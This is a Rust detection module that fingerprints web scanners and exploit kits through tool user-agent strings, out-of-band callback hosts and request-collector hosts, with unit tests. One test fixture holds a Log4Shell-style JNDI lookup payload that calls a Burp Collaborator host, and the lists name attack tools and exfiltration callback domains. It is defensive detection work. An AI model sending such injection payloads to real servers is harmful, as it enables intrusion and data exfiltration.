//! Fingerprints of scanners and exploit kits.
//!
//! A tool names itself as software does: a name, a slash, a version. The hosts that tell a scanner
//! of a blind hit stand for nothing else, and always with a label of their own before them.
//!
//! Reads    `TEXT_BYTES_MAX` bytes from the front.
//! Memory   none.
//! Misses   tools that borrow a browser's name; hosts that a scanner rents.
//! Source   documentation of the tools named.

use super::marks::Marks;
use super::search::{find, from, head, starts};
use super::sign::{Input, Sign, Signs, Strength};

const HOST: usize = 0;
const TOOL: usize = 1;
const PLACEHOLDER: usize = 2;
const COLLECTOR: usize = 3;

pub(super) const SIGNS: &[Sign] = &[
    Sign::new("host", Strength::Certain),
    Sign::new("tool", Strength::Likely),
    Sign::new("placeholder", Strength::Likely),
    Sign::new("collector", Strength::Hint),
];

/// Bytes that are read.
const TEXT_BYTES_MAX: usize = 1024;

/// Places that are looked at.
const PLACES_MAX: usize = 128;

pub(super) fn look(input: &Input<'_>) -> Signs {
    let mut signs = Signs::default();
    if input.is_name || input.text.len() < 7 || !input.marks.has(Marks::LETTER) {
        return signs;
    }
    let text = head(input.text, TEXT_BYTES_MAX);
    if input.marks.has(Marks::DOT) {
        signs.note(HOST, names_host(text, HOSTS));
        signs.note(COLLECTOR, names_host(text, COLLECTORS));
    }
    if input.marks.has(Marks::SLASH) {
        signs.note(TOOL, names_tool(text));
    }
    if input.marks.has(Marks::SPACE)
        && matches!(text.first(), Some(b'M' | b'm' | b'N' | b'n' | b'O' | b'o' | b'F' | b'f'))
    {
        const SELF: &[&[u8]] = &[
            b"nmap scripting engine",
            b"nuclei - open-source",
            b"mozilla/5.0 (compatible; nmap scripting engine",
            b"fuzz faster u fool",
            b"openvas",
            b"masscan/",
        ];
        signs.note(TOOL, SELF.iter().any(|it| starts(text, it)));
    }
    if input.marks.has(Marks::DASH) {
        signs.note(PLACEHOLDER, find(text, b"burp-collaborator-").is_some());
    }
    signs
}

/// A label, a dot, the host, and then the end of the name.
fn names_host(text: &[u8], hosts: &[&[u8]]) -> bool {
    memchr::memchr_iter(b'.', text).take(PLACES_MAX).any(|at| {
        let is_labelled = at.checked_sub(1).and_then(|it| text.get(it)).is_some_and(|it| {
            it.is_ascii_alphanumeric() || matches!(it, b'}' | b'"' | b'\'' | b'`' | b')')
        });
        is_labelled
            && hosts.iter().any(|host| {
                let after = from(text, at + 1);
                let ends = from(after, host.len())
                    .first()
                    .is_none_or(|it| !it.is_ascii_alphanumeric() && !matches!(it, b'-' | b'_'));
                starts(after, host) && ends
            })
    })
}

/// The name of a tool before a slash and a version.
fn names_tool(text: &[u8]) -> bool {
    memchr::memchr_iter(b'/', text).take(PLACES_MAX).any(|at| {
        let after = from(text, at + 1);
        let is_version =
            after.first().is_some_and(|it| it.is_ascii_digit() || matches!(it, b'v' | b'V'))
                && from(after, 1).iter().take(3).any(|it| it.is_ascii_digit() || *it == b'.');
        is_version
            && TOOLS.iter().any(|tool| {
                let before = head(text, at);
                let Some(start) = before.len().checked_sub(tool.len()) else { return false };
                let is_start = start
                    .checked_sub(1)
                    .and_then(|it| before.get(it))
                    .is_none_or(|it| matches!(it, b' ' | b'(' | b';' | b'-'));
                is_start && from(before, start).eq_ignore_ascii_case(tool)
            })
    })
}

const TOOLS: &[&[u8]] = &[
    b"sqlmap",
    b"nikto",
    b"nuclei",
    b"acunetix",
    b"nessus",
    b"openvas",
    b"w3af",
    b"wpscan",
    b"dirbuster",
    b"gobuster",
    b"ffuf",
    b"feroxbuster",
    b"masscan",
    b"zgrab",
    b"arachni",
    b"havij",
    b"zap",
    b"zaproxy",
    b"whatweb",
    b"skipfish",
    b"commix",
    b"jaeles",
    b"xsstrike",
    b"dalfox",
    b"joomscan",
    b"netsparker",
    b"invicti",
    b"appscan",
    b"webinspect",
    b"paros",
    b"metasploit",
    b"hydra",
    b"dirsearch",
    b"wfuzz",
    b"rustbuster",
    b"sqlninja",
    b"vega",
    b"burp",
    b"burpsuite",
    b"nmap",
    b"whatwaf",
    b"wafw00f",
    b"detectify",
    b"grendel-scan",
    b"fimap",
    b"ghauri",
    b"katana",
    b"httpx-toolkit",
    b"crawlergo",
    b"xray",
    b"goby",
    b"fscan",
    b"l9explore",
    b"l9tcpid",
    b"libredtail-http",
];

/// Hosts that tell a scanner of a blind hit.
const HOSTS: &[&[u8]] = &[
    b"oast.fun",
    b"oast.pro",
    b"oast.live",
    b"oast.site",
    b"oast.online",
    b"oast.me",
    b"interact.sh",
    b"interactsh.com",
    b"burpcollaborator.net",
    b"oastify.com",
    b"bxss.me",
    b"bxss.in",
    b"xss.ht",
    b"dnslog.cn",
    b"ceye.io",
    b"eyes.sh",
    b"r87.me",
    b"r87.com",
    b"requestrepo.com",
    b"dnslog.link",
    b"dnslog.pw",
    b"dns.outbound.watchtowr.com",
    b"xss.report",
    b"pingb.in",
    b"dnsbin.zhack.ca",
    b"callback.red",
    b"tunshell.com",
    b"splunk.oast",
];

/// Hosts that collect what is sent to them, for developers too.
const COLLECTORS: &[&[u8]] = &[
    b"pipedream.net",
    b"requestbin.net",
    b"requestcatcher.com",
    b"ngrok.io",
    b"ngrok-free.app",
    b"serveo.net",
    b"canarytokens.com",
    b"beeceptor.com",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(strength: Option<Strength>, values: &[&str]) {
        for value in values {
            let seen = look(&Input::of(value.as_bytes(), false)).strength(SIGNS);
            assert_eq!(seen, strength, "{value}");
        }
    }

    #[test]
    fn hosts_of_scanners_are_certain() {
        check(
            Some(Strength::Certain),
            &[
                "http://c59hx.OAST.fun/x",
                "${jndi:ldap://a.burpcollaborator.net/a}",
                "x.oastify.com",
                "\"}.interact.sh:80",
            ],
        );
    }

    #[test]
    fn tools_that_name_themselves_are_likely() {
        check(
            Some(Strength::Likely),
            &[
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
                "Nuclei - Open-source project (github.com)",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "gobuster/3.6",
                "masscan/1.3 (https://github.com/x)",
            ],
        );
    }

    #[test]
    fn talk_about_tools_says_nothing() {
        check(
            None,
            &[
                "we ran sqlmap and nikto/burp last week",
                "see https://interact.sh/docs",
                "https://sqlmap.org/",
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
                "/opt/nmap/scripts",
                "coast.fun",
                "a.toast.fun.example",
                "alice@oastify.community",
                "zap/ab",
            ],
        );
        check(Some(Strength::Hint), &["https://x.ngrok.io/hook"]);
    }
}
